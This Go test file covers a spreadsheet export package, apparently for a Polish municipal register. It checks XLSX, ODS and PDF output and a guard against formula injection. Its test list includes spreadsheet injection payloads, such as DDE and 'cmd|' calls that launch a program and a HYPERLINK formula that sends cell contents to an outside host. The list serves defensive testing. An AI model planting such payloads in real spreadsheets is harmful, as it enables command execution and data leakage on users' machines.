package exchange

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/xml"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"
)

// formulas is what strangers put into registers so that a spreadsheet calculates it.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x.example/?a="&A1,"proszę kliknąć")`, "=WEBSERVICE(\"http://x\")", `=IMPORTXML("http://x","//a")`,
	"\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "'=1+1", "''=1", "+48 600 100 200", "+48600100200", "-5", "-5,25", "-", "=", "'", "''", "'quoted'", "--1", "-2+3+cmd|' /C calc'!A0",
	"=DDE(\"cmd\";\"/C calc\";\"!A0\")", "%0A=1+1", "a=1", "\u00a0=1+1",
}

func TestGuard(t *testing.T) {
	for _, s := range formulas {
		require.Equal(t, s, Unguard(Guard(s)), "%q", s)
		trimmed := strings.TrimLeft(Guard(s), " \u00a0")
		if len(trimmed) > 1 && !negative.MatchString(s) {
			first, _ := firstRune(trimmed)
			require.NotContains(t, "=+-@\t\r\n＝＋－＠", string(first), "%q leaves as %q", s, Guard(s))
		}
	}
	for s, want := range map[string]string{"-5": "-5", "-5,25": "-5,25", "+48 600": "'+48 600", "=1+1": "'=1+1", "'=1": "''=1", "'quoted'": "'quoted'", "007": "007", "": "", "-": "-", "＝1": "'＝1"} {
		require.Equal(t, want, Guard(s), "%q", s)
	}
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.StringOfN(rapid.SampledFrom([]rune("'=+-@\t\r\n ＝a1,\u00a0\ufeff")), 0, 6, -1).Draw(t, "s")
		if Unguard(Guard(s)) != s {
			t.Fatalf("%q → %q → %q", s, Guard(s), Unguard(Guard(s)))
		}
	})
}

func firstRune(s string) (rune, int) {
	for _, r := range s {
		return r, 1
	}
	return 0, 0
}

var trialColumns = []SheetColumn{{"text", "Tekst", TextCell}, {"whole", "Całe", WholeCell}, {"real", "Powierzchnia [m²]", RealCell}, {"cash", "Opłata [zł]", CashCell},
	{"truth", "Czy", TruthCell}, {"day", "Od", DayCell}, {"moment", "Kiedy", MomentCell}}

type maker func(io.Writer, Sheet) (SheetWriter, error)

var makers = map[string]maker{"xlsx": NewXLSX, "ods": NewODS}

func writeSheet(t require.TestingT, path string, make maker, s Sheet, rows [][]any) {
	f, err := os.Create(path)
	require.NoError(t, err)
	defer f.Close()
	w, err := make(f, s)
	require.NoError(t, err)
	for i, r := range rows {
		require.NoError(t, w.Row(int64(i+1), 7, r))
	}
	require.NoError(t, w.Close())
}

func openSheet(t require.TestingT, path string, o OpenOptions) Source {
	open := OpenXLSX
	if strings.HasSuffix(path, ".ods") {
		open = OpenODS
	}
	s, err := open(path, o)
	require.NoError(t, err)
	return s
}

func readRows(t require.TestingT, s Source, layer string) (out [][]any) {
	require.NoError(t, s.Rows(context.Background(), layer, func(rows []*Row) error {
		for _, r := range rows {
			out = append(out, r.Values)
		}
		return nil
	}))
	return out
}

// What is written into a workbook is read from it again, whatever it is: the property behind the round trip.
func TestSheetsComeBack(t *testing.T) {
	dir := t.TempDir()
	texts := rapid.OneOf(rapid.SampledFrom(formulas), rapid.SampledFrom([]string{"007", " blank ", "two\nlines", "two\r\nlines", "Zażółć gęślą jaźń", "🙂", "_x000D_", "_x0041_", "1,5", "2024-01-02", "1/2", "TRUE", "a\tb", "  a  b  ",
		"<b>&amp;\"'", "\n", "x\n", "]]>", "a\u0001b"}), rapid.String())
	rapid.Check(t, func(t *rapid.T) {
		n := rapid.IntRange(1, 4).Draw(t, "rows")
		var rows [][]any
		for range n {
			some := func(g *rapid.Generator[any]) any {
				if rapid.IntRange(0, 4).Draw(t, "null") == 0 {
					return nil
				}
				return g.Draw(t, "cell")
			}
			moment := time.Unix(rapid.Int64Range(-2203891200+86400*120, 4102444800).Draw(t, "moment"), 0).UTC()
			rows = append(rows, []any{some(texts.AsAny()), some(rapid.Int64().AsAny()), some(rapid.Float64().AsAny()), some(rapid.Custom(func(t *rapid.T) float64 { return float64(rapid.Int64Range(-1e12, 1e12).Draw(t, "gr")) / 100 }).AsAny()),
				some(rapid.Bool().AsAny()), some(rapid.Custom(func(t *rapid.T) time.Time {
					return time.Date(1, 1, 1, 0, 0, 0, 0, time.UTC).AddDate(0, 0, rapid.IntRange(0, 3_000_000).Draw(t, "day"))
				}).AsAny()), moment})
		}
		for kind, make := range makers {
			path := filepath.Join(dir, "x."+kind)
			writeSheet(t, path, make, Sheet{Name: "Dane", ID: "Spoina nr", Columns: trialColumns, Carried: [][2]string{{"register", "trial"}}}, rows)
			s := openSheet(t, path, OpenOptions{HeadingRow: 1})
			got := readRows(t, s, "Dane")
			require.NoError(t, s.Close())
			require.Len(t, got, n, kind)
			for i, row := range rows {
				require.Equal(t, int64(i+1), got[i][0])
				for k, v := range row {
					back := got[i][k+1]
					switch v := v.(type) {
					case string:
						if v = Clean(v); strings.TrimSpace(v) == "" {
							require.Nil(t, back)
							continue
						}
						require.Equal(t, v, Clean(fmt.Sprint(back)), "%s", kind)
					case float64:
						if whole, ok := back.(int64); ok {
							back = float64(whole)
						}
						require.InDelta(t, v, back, max(v, -v)*1e-15, kind)
					case int64:
						require.Equal(t, fmt.Sprint(v), fmt.Sprint(back), kind)
					case time.Time:
						if text, ok := back.(string); ok {
							require.True(t, v.Before(firstSerial) || v.Year() > 9999, "%s %v", kind, v)
							require.Equal(t, v.Format("2006-01-02"), text)
							continue
						}
						require.Equal(t, v, back, kind)
					default:
						require.Equal(t, v, back, kind)
					}
				}
			}
		}
	})
}

// No text of a register ever becomes a formula, and what comes along is hidden and complete.
func TestSheetsHoldNoFormulas(t *testing.T) {
	for kind, make := range makers {
		path := filepath.Join(t.TempDir(), "x."+kind)
		var rows [][]any
		for _, f := range formulas {
			rows = append(rows, []any{f, nil, nil, nil, nil, nil, nil})
		}
		writeSheet(t, path, make, Sheet{Name: "Rejestr: [decyzje] na zajęcie pasa drogowego", ID: "Spoina nr", Columns: trialColumns, Carried: [][2]string{{"register", "trial"}, {"revision", "12"}}}, rows)
		parts := unzip(t, path)
		for name, body := range parts {
			if strings.HasSuffix(name, ".xml") {
				require.NoError(t, wellFormed(body), name)
			}
		}
		if kind == "xlsx" {
			sheet := string(parts["xl/worksheets/sheet1.xml"])
			require.NotContains(t, sheet, "<f>")
			require.NotContains(t, sheet, "<f ")
			for _, wanted := range []string{"<pane ", `state="frozen"`, "<autoFilter ", "<cols>", `t="inlineStr"`} {
				require.Contains(t, sheet, wanted)
			}
			require.Contains(t, string(parts["xl/workbook.xml"]), `state="hidden"`)
			book, err := excelize.OpenFile(path)
			require.NoError(t, err)
			require.Equal(t, []string{"Rejestr decyzje na zajęcie pas", CarriedSheet}[1], book.GetSheetList()[1])
			for i := range formulas {
				f, err := book.GetCellFormula(book.GetSheetName(0), fmt.Sprintf("B%d", i+2))
				require.NoError(t, err)
				require.Empty(t, f)
			}
			book.Close()
		} else {
			content := string(parts["content.xml"])
			require.NotContains(t, content, "table:formula")
			require.Contains(t, content, `table:display="false"`)
			require.Contains(t, content, "table:database-range")
			require.Equal(t, odsMime, string(parts["mimetype"]))
		}
		s := openSheet(t, path, OpenOptions{HeadingRow: 1})
		require.Len(t, s.Layers(), 1, "people do not see what comes along")
		got := readRows(t, s, "")
		for i, f := range formulas {
			require.Equal(t, Clean(f), Clean(fmt.Sprint(got[i][1])), "%s %q", kind, f)
		}
		s.Close()
		s = openSheet(t, path, OpenOptions{HeadingRow: 1, Carried: true})
		carried := readRows(t, s, CarriedSheet)
		s.Close()
		require.Equal(t, []any{"meta", "register", "trial", nil}, carried[0])
		require.Equal(t, []any{"meta", "revision", "12", nil}, carried[1])
		require.Equal(t, []any{"column", "text", "Tekst", "B"}, carried[2])
		last := carried[len(carried)-1]
		require.Equal(t, "rows", last[0])
		require.True(t, strings.HasPrefix(last[2].(string), "1:7 2:7 3:7 "), last[2])
	}
}

func unzip(t *testing.T, path string) map[string][]byte {
	t.Helper()
	z, err := zip.OpenReader(path)
	require.NoError(t, err)
	defer z.Close()
	out := map[string][]byte{}
	for _, f := range z.File {
		r, err := f.Open()
		require.NoError(t, err)
		out[f.Name], err = io.ReadAll(r)
		require.NoError(t, err)
	}
	return out
}

func wellFormed(b []byte) error {
	d := xml.NewDecoder(bytes.NewReader(b))
	for {
		if _, err := d.Token(); err == io.EOF {
			return nil
		} else if err != nil {
			return err
		}
	}
}

// The same rows are the same bytes.
func TestSheetsAreStable(t *testing.T) {
	rows := [][]any{{"a", int64(1), 1.5, 2.25, true, time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC), nil}}
	for kind, make := range map[string]maker{"ods": NewODS} {
		var one, two bytes.Buffer
		for _, b := range []*bytes.Buffer{&one, &two} {
			w, err := make(b, Sheet{Name: "x", ID: "id", Columns: trialColumns})
			require.NoError(t, err)
			require.NoError(t, w.Row(1, 1, rows[0]))
			require.NoError(t, w.Close())
		}
		require.Equal(t, one.Bytes(), two.Bytes(), kind)
	}
}

func TestOtherProgramsReadSheets(t *testing.T) {
	if _, err := exec.LookPath("ogrinfo"); err != nil {
		t.Skip("ogrinfo is not installed")
	}
	for kind, make := range makers {
		path := filepath.Join(t.TempDir(), "x."+kind)
		writeSheet(t, path, make, Sheet{Name: "Dane", ID: "Spoina nr", Columns: trialColumns}, [][]any{
			{"=1+1", int64(12), 1.5, 1465.2, true, time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 22, 14, 5, 3, 0, time.UTC)},
			{"Łąkowa 1", int64(-5), 0.1, 2.0, false, time.Date(2022, 2, 28, 0, 0, 0, 0, time.UTC), time.Date(2022, 2, 28, 0, 0, 1, 0, time.UTC)}})
		out, err := exec.Command("ogrinfo", "-al", "-q", path, "--config", "OGR_XLSX_HEADERS", "FORCE", "--config", "OGR_ODS_HEADERS", "FORCE").CombinedOutput()
		require.NoError(t, err, string(out))
		for _, wanted := range []string{"Tekst (String) = =1+1", "Opłata [zł] (Real) = 1465.2", "Od (Date) = 2026/11/22", "Tekst (String) = Łąkowa 1", "2026/11/22 14:05:03"} {
			require.Contains(t, string(out), wanted, kind)
		}
	}
}

func TestPrintouts(t *testing.T) {
	print := func(s Sheet, rows [][]any) []byte {
		var b bytes.Buffer
		w, err := NewPDF(&b, s)
		require.NoError(t, err)
		for i, r := range rows {
			require.NoError(t, w.Row(int64(i), 1, r))
		}
		require.NoError(t, w.Close())
		return b.Bytes()
	}
	s := Sheet{Title: "Decyzje na zajęcie pasa drogowego", Lines: []string{"Warunek: Ulica = 'Źródlana'", "Stan na 22.11.2026, rewizja 12"}, Footer: "Urząd Miejski w Testowie", Page: "strona %d z %s", Yes: "tak", No: "nie", Columns: trialColumns}
	row := []any{"Zażółć gęślą jaźń ZAŻÓŁĆ GĘŚLĄ JAŹŃ 🙂 漢", int64(1), 12.5, 1465.2, true, time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 22, 14, 5, 0, 0, time.UTC)}
	var rows [][]any
	for range 300 {
		rows = append(rows, row)
	}
	rows = append(rows, []any{strings.Repeat("bardzo długi tekst ", 900), nil, nil, nil, nil, nil, nil}, []any{strings.Repeat("x", 500), nil, nil, nil, nil, nil, nil})
	portrait, landscape := s, s
	portrait.Portrait, landscape.Landscape = true, true
	for _, sheet := range []Sheet{landscape, portrait} {
		body := print(sheet, rows)
		require.True(t, bytes.HasPrefix(body, []byte("%PDF-")))
		pages := bytes.Count(body, []byte("/Type /Page\n"))
		require.Greater(t, pages, 5)
		require.Equal(t, sheet.Portrait, bytes.Contains(body, []byte("/MediaBox [0 0 595")), "A4 upright")
		path := filepath.Join(t.TempDir(), "x.pdf")
		if keep := os.Getenv("SPOINA_KEEP_PDF"); keep != "" { // to look at
			path = keep
		}
		require.NoError(t, os.WriteFile(path, body, 0o600))
		if _, err := exec.LookPath("pdftotext"); err != nil {
			continue
		}
		out, err := exec.Command("pdftotext", "-layout", path, "-").Output()
		require.NoError(t, err)
		text := strings.ReplaceAll(string(out), "\u00a0", " ")
		for _, wanted := range []string{"gęślą", "ZAŻÓŁĆ", "1 465,20", "12,5", "22.11.2026 14:05", "tak", fmt.Sprintf("strona 1 z %d", pages), fmt.Sprintf("strona %d z %d", pages, pages), "Źródlana", "Urząd Miejski"} {
			require.Contains(t, text, wanted)
		}
		require.GreaterOrEqual(t, strings.Count(text, "Opłata"), pages, "the heading is repeated on each page")
		require.Equal(t, 900, strings.Count(strings.Join(strings.Fields(text), " "), "bardzo"), "a long text is continued on the next page")
	}
	wide := s
	wide.Columns = nil
	for i := range 40 {
		wide.Columns = append(wide.Columns, SheetColumn{fmt.Sprint(i), fmt.Sprintf("Kolumna %d", i), TextCell})
	}
	cells := make([]any, 40)
	for i := range cells {
		cells[i] = "wartość komórki"
	}
	require.Greater(t, bytes.Count(print(wide, [][]any{cells}), []byte("/Type /Page\n")), 1, "what does not fit follows on further pages")
	require.NotEmpty(t, print(s, nil))

	w, err := NewPDF(io.Discard, s)
	require.NoError(t, err)
	for range PDFRows {
		require.NoError(t, w.Row(1, 1, row))
	}
	require.ErrorIs(t, w.Row(1, 1, row), ErrPrintout)
}

// Rows stream: memory does not grow with them.
func TestSheetsStream(t *testing.T) {
	if testing.Short() {
		t.Skip("150 000 rows")
	}
	row := []any{"Zażółć gęślą jaźń, działka 12/3", int64(1), 12.5, 1465.2, true, time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 22, 14, 5, 0, 0, time.UTC)}
	for kind, make := range makers {
		w, err := make(io.Discard, Sheet{Name: "Dane", ID: "Spoina nr", Columns: trialColumns, Carried: [][2]string{{"register", "trial"}}})
		require.NoError(t, err)
		var before, now runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		grown := uint64(0)
		for i := range 150_000 {
			require.NoError(t, w.Row(int64(i), 1, row))
			if i%30_000 == 29_999 {
				runtime.GC()
				runtime.ReadMemStats(&now)
				if now.HeapAlloc > before.HeapAlloc {
					grown = max(grown, now.HeapAlloc-before.HeapAlloc)
				}
			}
		}
		require.NoError(t, w.Close())
		require.Less(t, grown, uint64(48<<20), kind)
	}
}
